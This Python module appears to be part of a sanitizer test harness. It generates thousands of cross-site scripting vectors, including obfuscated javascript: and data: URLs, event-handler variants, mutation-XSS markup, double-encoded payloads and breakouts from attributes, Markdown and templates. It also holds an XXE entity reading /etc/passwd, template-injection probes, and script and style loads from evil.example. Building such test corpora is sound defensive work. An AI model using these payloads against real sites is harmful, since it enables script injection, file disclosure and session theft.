"""What strangers write to have a reader's browser run something: the corpora's vectors, and our own, as tables.

Our own are products of small tables (every scheme in every carrier, every handler behind every separator) and single
shapes that no table makes: markup that means another thing when it is parsed again, and what breaks out of JSON, XML,
Markdown and templates.
"""

from __future__ import annotations

import base64
import json
import os
import random
from itertools import product
from pathlib import Path

from torture.table import Scale
from torture.xss_newest import LATEST, NEWEST
from torture.xss_unseen import LATER, UNSEEN

CALL = "alert(1)"
SCRIPT = f"<script>{CALL}</script>"
IMAGE = f"<img src=x onerror={CALL}>"

CERTAIN = (
    SCRIPT,
    IMAGE,
    '<meta http-equiv=refresh content="0;url=http://evil.example/x">',
    "<img src=http://evil.example/x.js>",
)
"""What surely runs, leaves live markup, goes elsewhere and asks outside, in a bare page."""

ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"\x1fjavascript:{CALL}",
    f"\u00a0javascript:{CALL}",
    f"\ufeffjavascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"java\rscript:{CALL}",
    f"java\x00script:{CALL}",
    f"javascript\t:{CALL}",
    f"javascript\u2028:{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6a;&#x61;vascript&#x3A;{CALL}",
    f"&#0000106avascript:{CALL}",
    f"java&Tab;script&colon;{CALL}",
    f"java&NewLine;script:{CALL}",
    f"javascript&amp;colon;{CALL}",
    f"javascript:/*--></title></style></textarea></script>*/{CALL}",
    f"javascript://harbor.example/%0a{CALL}",
    f"javascript://%0d%0a{CALL}//https://harbor.example/",
    f"vbscript:{CALL}",
    f"data:text/html,{SCRIPT}",
    f"data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"feed:javascript:{CALL}",
    f"view-source:javascript:{CALL}",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:/\\evil.example/x",
    "http://evil.example/x.js",
)
"""Where a link, a picture or a frame of theirs would lead."""

CARRIERS = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<a ping="{0}" href="{0}" target=_self>x</a>',
    '<map><area href="{}"></map>',
    '<form action="{}"><input type=submit id=go></form>',
    '<form><button formaction="{}">x</button></form>',
    '<input type=image formaction="{0}" src="{0}">',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    '<svg><use href="{}"/></svg>',
    '<svg><a><animate attributeName=href values="{}"/><text y=20>x</text></a></svg>',
    '<math><mi xlink:href="{}">x</mi></math>',
    '<iframe src="{}"></iframe>',
    '<iframe srcdoc="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<img src="{}">',
    '<img srcset="{} 2x">',
    '<picture><source srcset="{}"><img></picture>',
    '<video poster="{0}" src="{0}"></video>',
    '<table background="{}"><tr><td>x</table>',
    '<base href="{}"><a href=x>x</a>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<link rel=stylesheet href="{}">',
    '<link rel=prefetch href="{}">',
    '<script src="{}"></script>',
    '<p style="background:url({})">x</p>',
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "y")',
    "![x]({})",
    '![x]({} "y")',
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x]\n\n[x]: <{}> 'y'",
    "[![x]({0})]({0})",
    "| [x]({}) | y |\n| --- | --- |\n| z | z |",
    '{{.caption image="{}"}}\nx',
)
"""What carries an address, in HTML and in Markdown."""

SEPARATORS = (" ", "/", "\t", "\n", "\r", "\x0c", "\x0b", "//", "''", '""', "/x/", "\u00a0", " x=\x60y\x60 ")
EQUALS = ("=", " = ", "\t=\n", "=\x0c", "&#61;")
HANDLERS = (
    ("<img src=x{0}onerror{1}alert(1)>"),
    ("<svg{0}onload{1}alert(1)>"),
    ("<details open{0}ontoggle{1}alert(1)>"),
    ("<input autofocus{0}onfocus{1}alert(1)>"),
    ("<video><source src=x{0}onerror{1}alert(1)></video>"),
    ("<p{0}onclick{1}alert(1)>x</p>"),
    ("<a href=#{0}OnMouseOver{1}'alert(1)'>x</a>"),
)

PARSED_AGAIN = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>"></style>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<svg><foreignObject><math><style><p title="</style><img src=x onerror=alert(1)>">',
    "<svg><desc><style></desc><img src=x onerror=alert(1)></style>",
    "<table><caption><svg><title><b><style></caption><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<title><textarea></title><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "<?php ?><img src=x onerror=alert(1)>",
    "<% %><img src=x onerror=alert(1)>",
    "</ <img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\n>alert(1)</SCRIPT\t\n>",
    "<script/x>alert(1)</script x>",
    "<script>/* <!-- <script> */alert(1)</script>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><set attributeName=href to=javascript:alert(1) /><a id=x>x</a></svg>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/x.png)}</style>",
    '<p style="animation-name:x" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>',
    "<link rel=import href=data:text/html,x><link rel=preconnect href=http://evil.example>",
    '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
    "<isindex type=image src=x onerror=alert(1)>",
    "<x onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>x",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>",
    "<search onclick=alert(1)>x</search>",
    "<img src=x onerror\u2028=alert(1)>",
    "<a href='x'onclick=alert(1)>x</a>",
    "<meta http-equiv=set-cookie content=x=y><meta http-equiv=Content-Security-Policy content=''>",
)
"""Markup whose parts change places when it is parsed, written and parsed once more."""

DECODED_TWICE = (
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&amp;amp;lt;script&amp;amp;gt;alert(1)&amp;amp;lt;/script&amp;amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&ltimg src=x onerror=alert(1)&gt",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "&quot; onmouseover=alert(1) x=&quot;",
    "&#34;&#62;<script>alert(1)</script>",
)

BROKEN_OUT = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "</script><script>alert(1)</script>",
    '"}</script><script>alert(1)</script>',
    "<!--<script>alert(1)//",
    "--></script><script>alert(1)</script>",
    "\u2028alert(1)//\u2029",
    '\\"}];alert(1)//',
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript></template><script>alert(1)</script>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script><![CDATA[",
    "</title><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script><title>",
    "</description></item><item><title><script>alert(1)</script>",
    "?><?xml-stylesheet type='text/xsl' href='data:text/xml,x'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "---\nsave_as: x.html\n---\n<script>alert(1)</script>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ 7 * '<img src=x onerror=alert(1)>' }}",
    "{% for x in (1,) %}<script>alert(1)</script>{% endfor %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>[[alert(1)]]",
    "{# <script>alert(1)</script> #}",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '``` js onclick=alert(1) class="x" \nx\n```',
    "~~~ </code></pre><script>alert(1)</script>\nx\n~~~",
    '| a<img src=x onerror=alert(1)> | b |\n|:-:|" onclick=alert(1)|\n| `|<svg onload=alert(1)>` | c |',
    '[x](https://harbor.example/"onmouseover="alert(1))',
    "[x](y 'z\" onmouseover=\"alert(1)')",
    "[x](y){onclick=alert(1)}",
    "# x {onclick=alert(1)}",
    '![a"onerror="alert(1)](x)',
    "[<img src=x onerror=alert(1)>](x)",
    '<https://harbor.example/"onclick=alert(1)>',
    '<mailto:x@harbor.example?subject="onclick=alert(1)>',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "x\n\n<script>\nalert(1)\n\n</script>",
    "<div\n\nonclick=alert(1)>x</div>",
    "\\<script>alert(1)\\</script>",
    "`<script>`alert(1)`</script>`",
    '{.caption image="x" onload="alert(1)"}\nx',
    "{.caption}\n<img src=x onerror=alert(1)>",
    '![x]({attach}../x.txt)<a href="{filename}/../x">|filename|x</a>',
)


def own() -> tuple[str, ...]:
    """Our vectors."""
    carried = (carrier.format(address) for carrier, address in product(CARRIERS, ADDRESSES))
    handled = (form.format(gap, equals) for form, gap, equals in product(HANDLERS, SEPARATORS, EQUALS))
    single = (*UNSEEN, *PARSED_AGAIN, *DECODED_TWICE, *BROKEN_OUT, SCRIPT, IMAGE)
    return tuple(dict.fromkeys((*carried, *handled, *single)))


def corpora() -> tuple[str, ...]:
    """The corpora's vectors, none where the data is not here."""
    return (*corpus("xss"), *corpus("xss_md"))


def corpus(name: str) -> tuple[str, ...]:
    """The texts of a corpus."""
    data = Path(os.environ.get("COPYDESK_DATA") or Path(__file__).resolve().parents[3] / "shared")
    file = data / "corpora" / f"{name}.jsonl"
    lines = file.read_text("utf-8").split("\n") if file.is_file() else ()
    return tuple(json.loads(line)["payload"] for line in lines if line)


def vectors(scale: Scale) -> tuple[str, ...]:
    """The vectors of a run, each once: all, or three dozen, sixteen of them single shapes and four that surely do each
    of the things an experiment looks for. ``TORTURE_EVERY=8`` takes every eighth of all, for a slow machine, and
    ``TORTURE_FROM=1`` with it another eighth."""
    if scale is Scale.WHOLE:
        every, begin = (
            int(os.environ.get(f"TORTURE_{name}", usual)) for name, usual in (("EVERY", "1"), ("FROM", "0"))
        )
        return tuple(dict.fromkeys((*own(), *corpora(), *LATER, *NEWEST, *LATEST)))[begin::every]
    chosen = random.Random(6)
    single = (*UNSEEN, *LATER, *NEWEST, *LATEST, *PARSED_AGAIN, *DECODED_TWICE, *BROKEN_OUT)
    others = [vector for vector in (*own(), *corpora()) if len(vector) < 500]
    return tuple(dict.fromkeys((*CERTAIN, *chosen.sample(single, 16), *chosen.sample(others, 16))))
